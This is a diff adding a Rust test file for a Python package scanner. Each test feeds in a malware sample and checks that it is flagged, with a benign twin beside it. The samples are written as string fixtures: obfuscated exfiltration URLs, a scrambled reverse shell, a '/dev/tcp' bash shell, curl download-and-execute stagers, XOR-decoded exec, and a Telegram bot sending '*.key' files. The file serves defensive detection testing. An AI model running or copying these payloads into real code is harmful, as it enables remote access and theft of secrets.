@@ -1,0 +1,107 @@
+//! Python techniques, each as an inert text of our own: the deed is found, its innocent twin is not.
+
+mod common;
+
+use common::{scan_one, write};
+use doorward_protocol::{PackageReport, Verdict};
+
+const METADATA: &str = "Metadata-Version: 2.1\nName: made-up\nVersion: 1.2.0\nSummary: helps\n";
+
+/// An sdist whose only module is this text.
+fn module(source: &str) -> PackageReport {
+    package(&[
+        ("setup.py", "from setuptools import setup\nsetup(name='made-up')\n"),
+        ("made_up/__init__.py", source),
+    ])
+}
+
+fn package(files: &[(&str, &str)]) -> PackageReport {
+    let folder = tempfile::tempdir().expect("a folder");
+    write(folder.path(), &[("PKG-INFO", METADATA)]);
+    write(folder.path(), files);
+    scan_one(folder.path())
+}
+
+#[track_caller]
+fn found(report: &PackageReport, rule: &str) {
+    assert!(report.verdict >= Verdict::Suspicious, "{report:#?}");
+    assert!(report.findings.iter().any(|finding| finding.rule == rule), "no {rule}: {:#?}", report.findings);
+}
+
+#[track_caller]
+fn innocent(report: &PackageReport) {
+    assert!(report.verdict <= Verdict::Notable, "{:#?}", report.findings);
+}
+
+#[test]
+fn an_address_that_is_spelt_in_code_is_found_wherever_it_is_used() {
+    // https://files.invalid/in
+    let encoded = "import base64, requests\n\
+        class Client:\n    def sign(self, value):\n        \
+        requests.post(base64.b64decode('aHR0cHM6Ly9maWxlcy5pbnZhbGlkL2lu').decode(), json={'value': value})\n";
+    found(&module(encoded), "O-13");
+    let turned = "import urllib.request\ndef look():\n    \
+        return urllib.request.urlopen('ni/dilavni.selif//:sptth'[::-1]).read()\n";
+    found(&module(turned), "O-13");
+    let open = "import requests\nclass Client:\n    def sign(self, value):\n        \
+        return requests.post('https://files.invalid/in', json={'value': value})\n";
+    innocent(&module(open));
+    let handed_in = "import base64, requests\ndef fetch(link):\n    return requests.get(base64.b64decode(link).decode())\n";
+    innocent(&module(handed_in));
+}
+
+#[test]
+fn code_that_is_scrambled_is_read_before_it_is_judged() {
+    // Letters taken from the other end of the alphabet.
+    let swapped = "import string\nletters = string.ascii_letters\nturned = letters[::-1]\n\
+        exec(''.join([turned[letters.index(c)] if c in letters else c for c in \
+        'RNKLIG HFYKILXVHH,HLXPVG;H=HLXPVG.HLXPVG();H.XLMMVXG((\"198.51.7.9\",9));HFYKILXVHH.XZOO([\"/YRM/HS\",\"-R\"],HGWRM=H)']))\n";
+    found(&module(swapped), "R-50");
+    let table = "exec('jnqpsu pt; pt.tztufn(x)'.translate(str.maketrans('jnqpsutzfx', 'imporstyex')))\n";
+    let report = module(table);
+    assert!(report.verdict >= Verdict::Suspicious, "{report:#?}");
+    let mixed = "key = '4711'\ncode = ''\ndata = '\\x5d\\x5a\\x41\\x5e\\x46\\x43\\x11\\x5e\\x47'\n\
+        for at in range(len(data)):\n    code += chr(ord(data[at]) ^ ord(key[at % len(key)]))\nexec(code)\n";
+    found(&module(mixed), "M-02");
+}
+
+#[test]
+fn a_program_fetched_by_a_command_and_started_by_the_next_is_found() {
+    let two = "import os\nos.system('curl -s -o s.ps1 http://198.51.7.9:8000/s')\n\
+        os.system('powershell.exe -File s.ps1')\n";
+    found(&module(two), "M-01");
+    let one = "import subprocess\nsubprocess.run('curl -fsSL https://files.invalid/a.bin -o /tmp/a.bin && chmod +x /tmp/a.bin && /tmp/a.bin', shell=True)\n";
+    found(&module(one), "M-01");
+    let kept = "import subprocess\ndef fetch():\n    subprocess.run(['curl', '-o', 'list.csv', 'https://files.invalid/list.csv'])\n";
+    innocent(&module(kept));
+}
+
+#[test]
+fn what_an_interpreter_reads_from_the_network_is_run() {
+    let piped = "import subprocess, sys, requests\ntext = requests.get('https://files.invalid/x').content\n\
+        child = subprocess.Popen([sys.executable, '-'], stdin=subprocess.PIPE)\nchild.stdin.write(text)\n";
+    found(&module(piped), "M-02");
+}
+
+#[test]
+fn a_shell_handed_out_by_a_command_is_found() {
+    let shell = "import os\ndef start():\n    os.system('bash -i >& /dev/tcp/10.0.0.9/9 0>&1')\n";
+    found(&module(shell), "R-50");
+}
+
+#[test]
+fn a_list_filled_in_a_loop_is_followed_to_where_it_is_sent() {
+    // A made-up token of a chat bot.
+    let bot = "import telebot, pathlib\nbot = telebot.TeleBot('1234567890:AAabcdefghijklmnopqrstuvwxyz1234567')\n\
+        def gather():\n    names = []\n    for folder in ['/home']:\n        names.extend(pathlib.Path(folder).rglob('*.key'))\n    \
+        for name in names:\n        bot.send_document(1, open(name, 'rb'))\ngather()\n";
+    found(&module(bot), "I-54");
+}
+
+#[test]
+fn a_file_that_is_one_call_of_one_literal_is_a_loader() {
+    let data = "\\x07\\xa1".repeat(1500);
+    found(&module(&format!("__load__(__name__, __file__, b'{data}', 2)\n")), "W-01");
+    let picture = "iVBORw0KGgo".repeat(400);
+    innocent(&module(&format!("import base64\nICON = base64.b64decode('{picture}')\n")));
+}
